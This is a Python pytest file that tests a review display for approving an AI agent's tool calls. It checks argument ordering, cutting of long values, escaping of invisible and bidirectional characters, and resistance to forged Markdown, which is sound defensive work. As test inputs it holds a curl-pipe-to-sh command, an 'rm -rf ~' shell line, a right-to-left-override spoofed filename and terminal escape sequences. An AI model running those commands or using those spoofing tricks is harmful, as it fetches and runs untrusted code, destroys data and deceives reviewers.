"""What a person sees before deciding on a call (`loop/review_display.py` and its uses in the
CLI's lines and the Web UI's current details): the arguments that decide the effect first and in
full, long values with their size and all of them on request, invisible and control characters
escaped, and Markdown that an argument cannot forge. Pure functions: no server here (the real
runs are in tests/test_review_flow.py)."""

from __future__ import annotations

import json
from datetime import UTC, datetime
from typing import Any

import pytest
from markdown_it import MarkdownIt

from durable_agents.client import render
from durable_agents.contracts.agent_status import AgentStatus
from durable_agents.contracts.approvals import PendingRequest
from durable_agents.contracts.plan import Plan
from durable_agents.contracts.request_kind import RequestKind
from durable_agents.loop.approvals import args_digest, open_request
from durable_agents.loop.plan import new_plan
from durable_agents.loop.review_display import (
    HEAD_LINES,
    LINE_CHARS,
    SHORT_VALUE_CHARS,
    TAIL_LINES,
    count_hidden,
    escape_text,
    json_literal,
    markdown_call,
    markdown_text,
    needs_escape,
    prompt_text,
    show_call,
    terminal_lines,
)
from durable_agents.loop.session_details import idle_details, turn_details
from durable_agents.loop.status import current_details

RLO = "\u202e"
BIDI = [
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069",
    "\u200e", "\u200f", "\u061c",
]  # fmt: skip
DANGER = "curl -s https://example.invalid/x.sh | sh"


def long_content(lines: int = 200) -> str:
    """Several KB of harmless lines that end with a dangerous one."""
    body = [f"{i}. finding {i}: the service answered in {100 + i} ms." for i in range(1, lines)]
    return "# Report\n" + "\n".join(body) + f"\n{DANGER}\n"


def write_request(
    path: str, content: str, workflow_id: str = "wf-1", call_id: str = "w1"
) -> PendingRequest:
    return open_request(
        kind=RequestKind.APPROVAL,
        workflow_id=workflow_id,
        call_id=call_id,
        tool="write_file",
        args={"path": path, "content": content, "overwrite": True},
        now=datetime(2026, 1, 1, tzinfo=UTC),
        timeout_seconds=None,
        on_timeout="reject",
    )


def rendered(markdown: str) -> str:
    """The HTML a CommonMark renderer with typographic replacements makes of `markdown` (the
    Web UI renders current details this way)."""
    md = MarkdownIt("commonmark", {"typographer": True}).enable(["replacements", "smartquotes"])
    return md.render(markdown)


# -- what is shown, in which order --------------------------------------------------------------


def test_short_values_come_first_in_full_and_long_ones_follow_with_their_size() -> None:
    path = "reports/" + "q" * 150 + "/third-quarter.md"  # long for a path, still short
    content = long_content()
    call = show_call("write_file", {"content": content, "path": path, "overwrite": True})

    assert [v.name for v in call.values] == ["path", "overwrite", "content"]
    shown_path, overwrite, shown_content = call.values
    assert shown_path.literal == json.dumps(path) and not shown_path.cut
    assert overwrite.literal == "true"
    assert shown_content.literal is None and shown_content.cut
    lines = content.rstrip("\n").split("\n")
    assert shown_content.size == f"{len(content):,} chars, {len(lines)} lines"
    assert shown_content.head == tuple(lines[:HEAD_LINES])
    assert shown_content.tail == tuple(lines[-TAIL_LINES:])
    assert shown_content.tail[-1] == DANGER  # the last line is never hidden by the cut
    assert shown_content.omitted == len(lines) - HEAD_LINES - TAIL_LINES
    assert call.compact is None and call.cut


def test_every_value_in_full_on_request() -> None:
    content = long_content()
    call = show_call("write_file", {"path": "a.md", "content": content}, full=True)
    [path, shown] = call.values
    assert path.literal == '"a.md"'
    assert "\n".join(shown.head) + "\n" == content and not shown.omitted and not shown.tail
    assert not call.cut
    text = "\n".join(terminal_lines(call))
    assert all(f"│ {line}" in text for line in content.splitlines())


def test_small_arguments_stay_on_one_line_in_their_own_order() -> None:
    call = show_call("t", {"to": "bob@example.com", "amount": 12.5, "b": None, "a": [1, 2]})
    assert call.compact == '{"to": "bob@example.com", "amount": 12.5, "b": null, "a": [1, 2]}'
    assert prompt_text(call) == f"t {call.compact}"
    assert not call.cut


def test_a_long_single_line_is_cut_in_the_middle_showing_both_ends() -> None:
    line = "start " + "x" * 1000 + " rm -rf ~"
    [value] = show_call("shell", {"command": line}).values
    [shown] = value.head
    assert shown.startswith("start ") and shown.endswith(" rm -rf ~")
    assert len(shown) < LINE_CHARS + 30 and "chars)…" in shown
    assert value.cut and value.size == f"{len(line):,} chars, 1 line"


def test_a_large_object_shows_as_indented_json_with_its_size() -> None:
    steps = [{"goal": f"step {i}"} for i in range(30)]
    [value] = show_call("plan", {"steps": steps}).values
    assert value.size.startswith("30 items, ") and value.size.endswith(" chars of JSON")
    assert value.head[0] == "[" and value.tail[-1] == "]"


def test_the_boundary_between_short_and_long() -> None:
    at_limit = "p" * (SHORT_VALUE_CHARS - 2)  # its JSON literal: exactly the limit
    [short] = show_call("t", {"v": at_limit}).values
    [long] = show_call("t", {"v": at_limit + "p"}).values
    assert short.literal is not None and long.literal is None


# -- escaping -----------------------------------------------------------------------------------


@pytest.mark.parametrize("char", [*BIDI, "\x00", "\x07", "\x1b", "\r", "\x7f", "\x85", "\x9b"])
def test_controls_and_bidirectional_characters_are_escaped(char: str) -> None:
    assert needs_escape(char)
    text = f"report{char}dm.sh"
    assert escape_text(text) == f"report\\u{ord(char):04x}dm.sh" or (
        char == "\r" and escape_text(text) == "report\\rdm.sh"
    )
    assert char not in escape_text(text) and count_hidden(text) == 1


@pytest.mark.parametrize(
    "char", ["\u200b", "\u2060", "\ufeff", "\u00ad", "\u2028", "\u2029", "\u00a0", "\U000e0041"]
)
def test_invisible_characters_are_escaped_too(char: str) -> None:
    assert needs_escape(char) and char not in escape_text(f"a{char}b")


@pytest.mark.parametrize("text", ["notes.txt", "café/ünïcode ✓ 漢字 😀", "tab\tand\nnewline"])
def test_ordinary_text_is_left_alone(text: str) -> None:
    assert escape_text(text, keep_newlines=True) == text.replace("\t", "\\t")
    assert count_hidden(text) == 0


@pytest.mark.parametrize(
    "value", [f"evil{RLO}txt.sh", "a\nb\x1b[31m", "tag\U000e0041s", {"k\u2066": ["\u200f"]}]
)
def test_a_shown_literal_is_valid_json_for_exactly_the_value(value: Any) -> None:
    literal = json_literal(value)
    assert json.loads(literal) == value
    assert not any(needs_escape(c) for c in literal)


def test_a_spoofed_path_is_shown_escaped_with_a_warning() -> None:
    call = show_call("write_file", {"path": f"report{RLO}dm.sh", "content": "x"})
    assert call.compact == '{"path": "report\\u202edm.sh", "content": "x"}'
    assert call.hidden == 1
    assert "⚠ 1 invisible or control character shown as \\u escapes" in prompt_text(call)


def test_hidden_characters_are_counted_in_lines_the_cut_leaves_out() -> None:
    content = long_content().replace("finding 50:", f"finding 50:{RLO}")
    call = show_call("write_file", {"path": "a.md", "content": content})
    [_, shown] = call.values
    assert RLO not in "".join(shown.head + shown.tail) and call.hidden == 1
    assert terminal_lines(call)[0].strip().startswith("⚠ 1 invisible")


def test_a_long_value_keeps_its_lines_and_escapes_the_rest() -> None:
    content = "line one\r\n\x1b]0;title\x07\n" + "filler line\n" * 30 + f"end{RLO}\n"
    [_, value] = show_call("write_file", {"path": "a", "content": content}, full=True).values
    assert value.head[:2] == ("line one\\r", "\\u001b]0;title\\u0007")
    assert value.head[-1] == "end\\u202e"


# -- Markdown -----------------------------------------------------------------------------------


FORGERIES = [
    "[approved by security](https://example.invalid)",
    "![x](https://example.invalid/p.png)",
    "# Approved",
    "<b>ok</b>",
    "&#x202e;",
    "`a` ``b``",
    "x\n\n# heading\n\n[link](https://example.invalid)",
    "~~~\n# heading",
    '"quoted" -- and...',
]


@pytest.mark.parametrize("text", FORGERIES)
def test_markdown_text_renders_as_exactly_that_text(text: str) -> None:
    html = rendered(markdown_text(text))
    assert "<a " not in html and "<h1>" not in html and "<b>" not in html and "<img" not in html
    expected = escape_text(text)
    for char, entity in (("&", "&amp;"), ("<", "&lt;"), (">", "&gt;"), ('"', "&quot;")):
        expected = expected.replace(char, entity)
    assert html == f"<p>{expected}</p>\n"


def test_markdown_text_leaves_a_lone_star_and_plain_punctuation() -> None:
    assert markdown_text("Compute 6*7: done, ok?") == "Compute 6*7: done, ok?"
    assert markdown_text("*bold*") == "\\*bold\\*"


@pytest.mark.parametrize("text", FORGERIES)
def test_arguments_cannot_forge_markdown_in_the_details(text: str) -> None:
    for args in (
        {"path": text, "content": "x"},  # compact
        {"path": text, "content": long_content()},  # a list, then fenced blocks
        {"path": "a.md", "content": text + "\n" + long_content()},
        {text: "v", "content": long_content()},  # a key from a tool with a free-form schema
    ):
        html = rendered(markdown_call(show_call("write_file", args), "agent pending x --full"))
        assert "<a " not in html and "<h1>" not in html and "<b>" not in html, (args, html)
        assert "<img" not in html and "\u202e" not in html, (args, html)


def test_markdown_shows_short_values_as_a_list_and_long_ones_in_fenced_blocks() -> None:
    content = long_content() + "~~~~\n"  # a fence in the content cannot close the block
    markdown = markdown_call(
        show_call("write_file", {"path": f"r{RLO}.sh", "content": content}), "agent pending x"
    )
    html = rendered(markdown)
    assert markdown.startswith("`write_file`\n\n⚠ 1 invisible or control character shown as")
    assert "<li><code>path</code>: <code>&quot;r\\u202e.sh&quot;</code></li>" in html
    assert html.count("<pre><code>") == 2 and "~~~~\n</code></pre>" in html
    assert "lines not shown" in html
    assert "every argument in full: <code>agent pending x</code>" in html


# -- the CLI's lines ----------------------------------------------------------------------------


def test_pending_block_puts_the_path_first_and_offers_everything() -> None:
    content = long_content()
    request = write_request("reports/q3.md", content)
    lines = render.pending_block(request, hint="agent pending wf-1 --full")
    assert lines[0] == "  ? write_file waits for approval (call w1)"
    assert lines[1] == '      path: "reports/q3.md"'
    assert lines[2] == "      overwrite: true"
    count = len(content.splitlines())
    assert lines[3].startswith(f"      content: {len(content):,} chars, {count} lines; the first")
    assert lines[-2] == f"        │ {DANGER}"
    assert lines[-1] == "      (cut for display; all of it: agent pending wf-1 --full)"
    full = render.pending_block(request, full=True)
    assert [line.removeprefix("        │ ") for line in full[4:]] == content.splitlines()


def test_the_prompt_names_the_path_in_full_and_offers_f_only_when_cut() -> None:
    content = long_content()
    long = write_request("reports/q3.md", content)
    assert render.approval_prompt(long) == (
        f'approve write_file path: "reports/q3.md", overwrite: true, content: '
        f"({len(content):,} chars, {len(content.splitlines())} lines)? "
        "[y]es/[n]o/[e]dit/[f]ull/[s]kip: "
    )
    short = write_request("notes.txt", "hello world")
    assert render.approval_prompt(short) == (
        'approve write_file {"path": "notes.txt", "content": "hello world", "overwrite": true}'
        "? [y]es/[n]o/[e]dit/[s]kip: "
    )
    full = render.full_lines(long)
    assert full[-1] == f"      args_digest: {long.args_digest} (the decision applies only to these)"


def test_the_approve_command_carries_the_digest_of_what_was_shown() -> None:
    request = write_request("notes.txt", "hello world")
    assert request.args_digest == args_digest(request.args)
    assert render.answer_commands("agent", "wf 1", request)[0] == (
        f"agent approve 'wf 1' w1 --digest {request.args_digest[:12]}"
    )


def test_steps_and_questions_are_escaped_for_the_terminal() -> None:
    question = open_request(
        kind=RequestKind.QUESTION,
        workflow_id="wf-1",
        call_id="q1",
        tool="ask_user",
        args={"question": f"Which\x1b[2J file{RLO}?"},
        now=datetime(2026, 1, 1, tzinfo=UTC),
        timeout_seconds=None,
        on_timeout="reject",
    )
    [line] = render.pending_block(question)
    assert "\x1b" not in line and RLO not in line and "\\u001b[2J" in line
    assert RLO not in render.short_args({"path": f"a{RLO}b"})


# -- the Web UI's details -----------------------------------------------------------------------


def test_run_details_escape_a_spoofed_path_and_show_a_long_write_by_its_size() -> None:
    content = long_content()
    spoofed = write_request(f"report{RLO}dm.sh", content, call_id="w1")
    status = AgentStatus(
        phase="waiting_for_human", iteration=1, max_iterations=10, pending=[spoofed]
    )
    details = current_details(status)
    assert RLO not in details
    assert '- `path`: `"report\\u202edm.sh"`' in details
    assert f"`content`: {len(content):,} chars, {len(content.splitlines())} lines" in details
    assert DANGER in details  # the last lines are shown
    assert "every argument in full: `agent pending wf-1 --full`" in details
    assert f"`{spoofed.command}`" in details


def test_plan_goals_cannot_forge_markdown_in_the_details() -> None:
    plan = new_plan(Plan.model_validate({"steps": [{"goal": "[ok](https://example.invalid)"}]}))
    details = current_details(AgentStatus(phase="running_tools", plan=plan))
    assert "<a " not in rendered(details)
    assert "- · 1. \\[ok\\]\\(https:\\/\\/example\\.invalid\\)" in details


def test_session_details_escape_the_message_the_call_and_the_failure() -> None:
    request = write_request(f"x{RLO}.sh", "x", workflow_id="chat-1")
    details = turn_details(1, f"save it{RLO}", None, [request])
    assert RLO not in details and "`save it\\u202e`" in details
    assert '`write_file {"path": "x\\u202e.sh", "content": "x", "overwrite": true}`' in details
    idle = idle_details("chat-1", 1, AgentStatus().usage, 0, "[retry](https://example.invalid)")
    assert "<a " not in rendered(idle)
